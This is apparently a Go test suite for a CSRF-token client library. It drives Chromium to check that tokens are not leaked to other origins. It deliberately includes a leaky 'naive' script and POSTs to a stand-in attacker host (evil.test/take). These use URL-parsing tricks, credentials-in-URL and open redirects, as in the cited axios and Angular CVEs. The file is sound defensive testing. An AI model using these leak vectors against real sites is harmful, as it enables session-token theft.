// Package client_test runs the client scripts in a real Chromium.
package client_test

import (
	"cmp"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/d710e0ae/countersign/csrf"
	"github.com/d710e0ae/countersign/internal/chromiumtest"
	"github.com/d710e0ae/countersign/internal/needs"
)

const (
	bank    = "https://bank.test"
	evil    = "https://evil.test"
	sibling = "https://www.bank.test"
)

// A world is a bank that checks tokens, and others that allow every script
// everything and note what they are sent.
type world struct {
	mu      sync.Mutex
	session string // of the one user; "" is none
	loads   int    // how often the token was asked for
	seen    []seen
	*csrf.Protection
}

type seen struct{ origin, method, path, token, api string }

func (w *world) note(origin string, r *http.Request) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seen = append(w.seen, seen{origin, r.Method, r.URL.Path, strings.Join(r.Header["X-Csrf-Token"], ", "), strings.Join(r.Header["X-Countersign-Api-Token"], ", ")})
}

// take returns what was seen since the last time, without preflights.
func (w *world) take() []seen {
	w.mu.Lock()
	defer w.mu.Unlock()
	s := slices.DeleteFunc(w.seen, func(s seen) bool { return s.method == "OPTIONS" })
	w.seen = nil
	return s
}

func (w *world) logIn(session string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.session, w.loads = session, 0
}

func (w *world) id() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.session
}

func (w *world) asked() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.loads
}

// naive is the script of many a project: it asks no one where a request goes.
const naive = `const plain = window.fetch;
window.fetch = async (input, init) => {
  const request = new Request(input, init);
  request.headers.set("X-CSRF-Token", (await (await plain("https://bank.test/token")).json()).csrf_token);
  return plain(request);
};`

func newWorld(t *testing.T) (*world, *chromiumtest.Tab) {
	t.Helper()
	scripts := map[string]string{
		"/axios.js": needs.Script(t, "axios/dist/axios.min.js"),
		"/htmx2.js": needs.Script(t, "htmx.org/dist/htmx.min.js"),
		"/htmx4.js": needs.Script(t, "htmx4/dist/htmx.min.js"),
	}
	w := &world{}
	var err error
	w.Protection, err = csrf.New(csrf.Config{
		PublicOrigin: bank, Keys: [][]byte{[]byte(strings.Repeat("k", csrf.MinKey))},
		Session: func(*http.Request) csrf.Session { id := w.id(); return csrf.Session{ID: id, Ambient: id != ""} },
	})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	text := func(path, contentType, body string) {
		mux.HandleFunc("GET "+path, func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("Content-Type", contentType)
			fmt.Fprint(rw, body)
		})
	}
	text("/client.js", "text/javascript", csrf.ClientScript(csrf.DefaultHeader, "/token"))
	text("/client.mjs", "text/javascript", csrf.ClientModule(csrf.DefaultHeader, "/token"))
	text("/naive.js", "text/javascript", naive)
	for path, file := range scripts {
		mux.HandleFunc("GET "+path, func(rw http.ResponseWriter, r *http.Request) { http.ServeFile(rw, r, file) })
	}
	text("/page/{$}", "text/html", `<!DOCTYPE html><script src="/client.js"></script><script src="/axios.js"></script>`)
	text("/page/naive", "text/html", `<!DOCTYPE html><script src="/naive.js"></script>`)
	text("/page/bare", "text/html", `<!DOCTYPE html><title>bare</title>`)
	text("/page/based", "text/html", `<!DOCTYPE html><base href="https://evil.test/"><script src="https://bank.test/client.js"></script>`)
	for _, version := range []string{"2", "4"} {
		text("/page/htmx"+version, "text/html", `<!DOCTYPE html><meta name="htmx-config" content='{"selfRequestsOnly":false,"mode":"cors"}'><script src="/client.js"></script><script src="/htmx`+version+`.js"></script>
<button id="own" hx-post="/act/own">own</button><button id="get" hx-get="/act/get">get</button><button id="away" hx-post="https://evil.test/act/away">away</button>`)
	}
	mux.HandleFunc("GET /token", func(rw http.ResponseWriter, _ *http.Request) {
		w.mu.Lock()
		w.loads++
		w.mu.Unlock()
		if w.id() == "" {
			rw.WriteHeader(http.StatusUnauthorized)
			return
		}
		token, err := w.Token(w.id())
		if err != nil {
			t.Error(err)
		}
		json.NewEncoder(rw).Encode(map[string]string{"csrf_token": token})
	})
	acts := http.NewServeMux()
	acts.HandleFunc("/act/", func(rw http.ResponseWriter, r *http.Request) {
		w.note(bank, r)
		fmt.Fprint(rw, "done")
	})
	acts.HandleFunc("/forbidden", func(rw http.ResponseWriter, r *http.Request) {
		w.note(bank, r)
		http.Error(rw, `{"detail":"not yours"}`, http.StatusForbidden)
	})
	acts.HandleFunc("/redirect/{status}", func(rw http.ResponseWriter, r *http.Request) {
		w.note(bank, r)
		status := map[string]int{"302": 302, "303": 303, "307": 307, "308": 308}[r.PathValue("status")]
		http.Redirect(rw, r, r.URL.Query().Get("to"), status)
	})
	mux.Handle("/", w.Handler(acts))
	others := func(name string) http.Handler {
		return http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			w.note(name, r)
			h := rw.Header()
			h.Set("Access-Control-Allow-Origin", cmp.Or(r.Header.Get("Origin"), "*"))
			h.Set("Access-Control-Allow-Credentials", "true")
			h.Set("Access-Control-Allow-Headers", r.Header.Get("Access-Control-Request-Headers"))
			h.Set("Access-Control-Allow-Methods", "GET, POST, PUT, DELETE")
			fmt.Fprint(rw, "thanks")
		})
	}
	id := chromiumtest.NewIdentity(t, "bank.test", "www.bank.test", "evil.test")
	b := chromiumtest.Launch(t, id, map[string]net.Addr{
		"bank.test": id.Serve(t, mux), "www.bank.test": id.Serve(t, others(sibling)), "evil.test": id.Serve(t, others(evil)),
	})
	return w, b.Tab(t)
}

// TestAttack_32_ClientScriptKeepsTheTokenAtHome launches one browser for all.
func TestAttack_32_ClientScriptKeepsTheTokenAtHome(t *testing.T) {
	w, tab := newWorld(t)
	for _, c := range []struct {
		name string
		run  func(*testing.T, *world, *chromiumtest.Tab)
	}{
		{"sends the token to its own origin", sendsTokenToItsOwnOrigin},
		{"keeps the token from others, CVE-2023-45857", keepsTokenFromOthers},
		{"adds nothing without a session", withoutSessionAddsNothing},
		{"keeps what the page sets", keepsWhatThePageSets},
		{"survives rotation", survivesRotation},
		{"repeats no refusal of the API", repeatsNoRefusalOfTheAPI},
		{"abort", abort},
		{"htmx", withHTMX},
	} {
		t.Run(c.name, func(t *testing.T) {
			w.logIn("")
			w.take()
			c.run(t, w, tab)
		})
	}
}

// page is where a sender stands: the module works without the classic script.
func page(sender string) string {
	if sender == "module" {
		return bank + "/page/bare"
	}
	return bank + "/page/"
}

// senders send a request with each interface of the platform and axios. Each
// is a function of method and URL that resolves to the status, or 0.
var senders = map[string]string{
	"fetch":         `(method, url) => fetch(url, { method }).then((r) => r.status, () => 0)`,
	"fetch-Request": `(method, url) => fetch(new Request(url, { method, body: method === "GET" ? undefined : "a=1" })).then((r) => r.status, () => 0)`,
	"fetch-URL":     `(method, url) => fetch(new URL(url, document.baseURI), { method: method.toLowerCase() }).then((r) => r.status, () => 0)`,
	"fetch-headers": `(method, url) => fetch(url, { method, headers: new Headers({ "X-CSRF-Token": "stale" }) }).then((r) => r.status, () => 0)`,
	"XMLHttpRequest": `(method, url) => new Promise((done) => {
  const x = new XMLHttpRequest();
  x.open(method, url);
  x.onloadend = () => done(x.status);
  x.send();
})`,
	"axios":       `(method, url) => axios({ method, url, validateStatus: null }).then((r) => r.status, () => 0)`,
	"axios-fetch": `(method, url) => axios({ method, url, adapter: "fetch", validateStatus: null }).then((r) => r.status, () => 0)`,
	"module":      `async (method, url) => (await import("/client.mjs")).csrfFetch(url, { method }).then((r) => r.status, () => 0)`,
}

func sendsTokenToItsOwnOrigin(t *testing.T, w *world, tab *chromiumtest.Tab) {
	w.logIn("one")
	for name, sender := range senders {
		t.Run(name, func(t *testing.T) {
			tab.Open(page(name))
			for _, method := range []string{"POST", "PUT", "DELETE"} {
				for _, url := range []string{"/act/a", "../act/a", bank + "/act/a", "//bank.test/act/a", bank + ":443/act/a"} {
					var status int
					tab.Eval(fmt.Sprintf("return await (%s)(%q, %q)", sender, method, url), &status)
					got := w.take()
					if status != 200 || len(got) != 1 || got[0].method != method || got[0].token == "" {
						t.Errorf("%s %s: %d %+v", method, url, status, got)
					}
				}
			}
			if name == "fetch-headers" {
				return // the page's own doing
			}
			var status int
			tab.Eval(fmt.Sprintf(`return await (%s)("GET", "/act/a")`, sender), &status)
			if got := w.take(); status != 200 || len(got) != 1 || got[0].token != "" {
				t.Errorf("GET: %d %+v", status, got)
			}
		})
	}
}

// keepsWhatThePageSets is for an API with a double submit of its own: its page
// sets the same header, from a cookie of the API's.
func keepsWhatThePageSets(t *testing.T, w *world, tab *chromiumtest.Tab) {
	for name, sender := range map[string]string{
		"fetch":  `(h) => fetch("/act/a", { method: "POST", headers: h }).then((r) => r.status)`,
		"axios":  `(h) => axios.post("/act/a", "x", { headers: h, validateStatus: null }).then((r) => r.status)`,
		"module": `async (h) => (await import("/client.mjs")).csrfFetch("/act/a", { method: "POST", headers: h }).then((r) => r.status)`,
		"XMLHttpRequest": `(h) => new Promise((done) => {
  const x = new XMLHttpRequest();
  x.open("POST", "/act/a");
  for (const name in h) x.setRequestHeader(name, h[name]);
  x.onloadend = () => done(x.status);
  x.send();
})`,
	} {
		t.Run(name, func(t *testing.T) {
			tab.Open(page(name))
			send := func() seen {
				t.Helper()
				var status int
				tab.Eval(fmt.Sprintf(`return await (%s)({ "x-csrf-token": "the API's" })`, sender), &status)
				got := w.take()
				if status != 200 || len(got) != 1 {
					t.Fatalf("%d %+v", status, got)
				}
				return got[0]
			}
			w.logIn("")
			if got := send(); got.token != "the API's" || got.api != "" {
				t.Errorf("without a session: %+v", got)
			}
			w.logIn("one")
			if got := send(); got.token == "" || strings.Contains(got.token, "API") || got.api != "the API's" {
				t.Errorf("with a session: %+v", got)
			}
		})
	}
}

// keepsTokenFromOthers is CVE-2023-45857 (axios) and CVE-2025-66035
// (Angular, which took "//host" for its own).
func keepsTokenFromOthers(t *testing.T, w *world, tab *chromiumtest.Tab) {
	w.logIn("one")
	t.Run("control", func(t *testing.T) {
		tab.Open(bank + "/page/naive")
		for _, url := range []string{evil + "/take", "//evil.test/take"} {
			tab.Eval(fmt.Sprintf(`await fetch(%q, { method: "POST" })`, url), nil)
			if got := w.take(); len(got) != 1 || got[0].origin != evil || got[0].token == "" {
				t.Errorf("%s: the naive script did not leak: %+v", url, got)
			}
		}
		for _, status := range []string{"307", "303"} {
			tab.Eval(fmt.Sprintf(`await fetch("/redirect/%s?to=%s/take", { method: "POST" })`, status, evil), nil)
			got := w.take()
			if len(got) != 2 || got[1].origin != evil || got[1].token == "" {
				t.Errorf("a redirect (%s) did not take the naive script's header along: %+v", status, got)
			}
		}
	})
	for name, sender := range senders {
		if name == "fetch-headers" {
			continue // the page's own doing
		}
		t.Run(name, func(t *testing.T) {
			tab.Open(page(name))
			for _, url := range []string{
				evil + "/take", "//evil.test/take", `\\evil.test/take`, "https:\t//evil.test/take", "https://bank.test@evil.test/take",
				sibling + "/take", "HTTPS://EVIL.TEST:443/take",
			} {
				if name == "fetch-Request" && strings.Contains(url, "@") {
					continue // Request takes no credentials in a URL
				}
				arrived := tokensTo(t, w, tab, sender, "POST", url)
				if !arrived && !strings.Contains(url, "@") {
					t.Errorf("%q reached nobody, so nothing is shown", url)
				}
			}
			tokensTo(t, w, tab, sender, "GET", evil+"/take")
			if name == "XMLHttpRequest" || name == "axios" {
				return // follows what the server says; the guard refuses such answers
			}
			for _, status := range []string{"302", "303", "307", "308"} {
				for _, to := range []string{evil, sibling} {
					if tokensTo(t, w, tab, sender, "POST", "/redirect/"+status+"?to="+to+"/take") {
						t.Errorf("a request with the token followed a redirect (%s) to %s", status, to)
					}
				}
			}
			var code int
			tab.Eval(fmt.Sprintf(`return await (%s)("POST", "/redirect/307?to=/act/b")`, sender), &code)
			if got := w.take(); code != 200 || len(got) != 2 || got[1].token == "" {
				t.Errorf("a redirect at home: %d %+v", code, got)
			}
		})
	}
	t.Run("blob", func(t *testing.T) {
		tab.Open(bank + "/page/")
		w.logIn("one")
		tab.Eval(`const url = URL.createObjectURL(new Blob(["x"]));
await fetch(url, { method: "POST" }).catch(() => {});
await new Promise((done) => { const x = new XMLHttpRequest(); x.open("POST", url); x.onloadend = done; x.send(); });`, nil)
		if w.asked() != 0 {
			t.Errorf("a blob: URL was taken for the own origin")
		}
	})
	t.Run("base", func(t *testing.T) {
		tab.Open(bank + "/page/based")
		if !tokensTo(t, w, tab, senders["fetch"], "POST", "take") || !tokensTo(t, w, tab, senders["XMLHttpRequest"], "POST", "take") {
			t.Error("nobody was reached, so nothing is shown")
		}
	})
}

// tokensTo sends a request and fails if any but the bank got the token. It
// reports whether another was reached.
func tokensTo(t *testing.T, w *world, tab *chromiumtest.Tab, sender, method, url string) (arrived bool) {
	t.Helper()
	tab.Eval(fmt.Sprintf("return await (%s)(%q, %q)", sender, method, url), nil)
	for _, s := range w.take() {
		if s.origin == bank {
			continue
		}
		arrived = true
		if s.token != "" {
			t.Errorf("%s %s gave the token to %s", method, url, s.origin)
		}
	}
	return arrived
}

func withoutSessionAddsNothing(t *testing.T, w *world, tab *chromiumtest.Tab) {
	for name, sender := range senders {
		if name == "fetch-headers" {
			continue // the page's own doing
		}
		tab.Open(page(name))
		var status int
		tab.Eval(fmt.Sprintf(`return await (%s)("POST", "/act/login")`, sender), &status)
		if got := w.take(); status != 200 || len(got) != 1 || got[0].token != "" {
			t.Errorf("%s: %d %+v", name, status, got)
		}
	}
}

func survivesRotation(t *testing.T, w *world, tab *chromiumtest.Tab) {
	for name, sender := range senders {
		t.Run(name, func(t *testing.T) {
			tab.Open(page(name))
			for _, session := range []string{"one", "two", "three"} {
				w.logIn(session) // as in another tab
				w.take()
				var status int
				tab.Eval(fmt.Sprintf(`return await (%s)("POST", "/act/a")`, sender), &status)
				if got := w.take(); status != 200 || len(got) != 1 {
					t.Errorf("%s: %d %+v", session, status, got)
				}
				if n := w.asked(); n != 1 {
					t.Errorf("%s: asked %d times for the token", session, n)
				}
			}
		})
	}
}

func repeatsNoRefusalOfTheAPI(t *testing.T, w *world, tab *chromiumtest.Tab) {
	w.logIn("one")
	for name, sender := range senders {
		tab.Open(page(name))
		var status int
		tab.Eval(fmt.Sprintf(`return await (%s)("POST", "/forbidden")`, sender), &status)
		if got := w.take(); status != 403 || len(got) != 1 {
			t.Errorf("%s: %d %+v", name, status, got)
		}
	}
}

func abort(t *testing.T, w *world, tab *chromiumtest.Tab) {
	w.logIn("one")
	tab.Open(bank + "/page/")
	var events []string
	tab.Eval(`const events = [], x = new XMLHttpRequest();
for (const name of ["abort", "load", "loadend"]) x.addEventListener(name, () => events.push(name));
x.open("POST", "/act/aborted");
x.send();
x.abort();
x.open("POST", "/act/second");
await new Promise((done) => { x.addEventListener("load", done); x.send(); });
await new Promise((done) => setTimeout(done));
return events;`, &events)
	if want := []string{"abort", "loadend", "load", "loadend"}; !slices.Equal(events, want) {
		t.Errorf("events %v, want %v", events, want)
	}
	if got := w.take(); len(got) != 1 || got[0].path != "/act/second" {
		t.Errorf("what was aborted was sent: %+v", got)
	}
}

func withHTMX(t *testing.T, w *world, tab *chromiumtest.Tab) {
	w.logIn("one")
	for _, version := range []string{"2", "4"} {
		tab.Open(bank + "/page/htmx" + version)
		for _, button := range []string{"own", "get", "away"} {
			tab.Eval(fmt.Sprintf(`const b = document.getElementById(%q);
await new Promise((done) => {
  for (const name of ["htmx:afterRequest", "htmx:after:request", "htmx:error"]) document.addEventListener(name, done, { once: true });
  b.click();
});`, button), nil)
			got := w.take()
			if len(got) != 1 {
				t.Errorf("htmx %s, %s: %+v", version, button, got)
				continue
			}
			if has := got[0].token != ""; has != (button == "own") || (got[0].origin == evil) != (button == "away") {
				t.Errorf("htmx %s, %s: %+v", version, button, got)
			}
		}
	}
}

// TestPackage holds the folder to what npm and TypeScript expect of it.
func TestPackage(t *testing.T) {
	b, err := os.ReadFile("package.json")
	if err != nil {
		t.Fatal(err)
	}
	var p struct {
		Type, Types string
		Exports     map[string]any
		Files       []string
	}
	if err := json.Unmarshal(b, &p); err != nil {
		t.Fatal(err)
	}
	if p.Type != "module" || len(p.Files) == 0 {
		t.Errorf("%+v", p)
	}
	for _, f := range append(p.Files, p.Types) {
		if _, err := os.Stat(f); err != nil {
			t.Error(err)
		}
	}
	module, err := os.ReadFile("index.mjs")
	if err != nil {
		t.Fatal(err)
	}
	types, err := os.ReadFile("index.d.ts")
	if err != nil {
		t.Fatal(err)
	}
	names := func(text []byte) (out []string) {
		for _, m := range regexp.MustCompile(`(?m)^export (?:async )?(?:const|function) (\w+)`).FindAllSubmatch(text, -1) {
			out = append(out, string(m[1]))
		}
		slices.Sort(out)
		return out
	}
	if a, b := names(module), names(types); len(a) != 3 || !slices.Equal(a, b) {
		t.Errorf("the module exports %v, its types %v", a, b)
	}
}
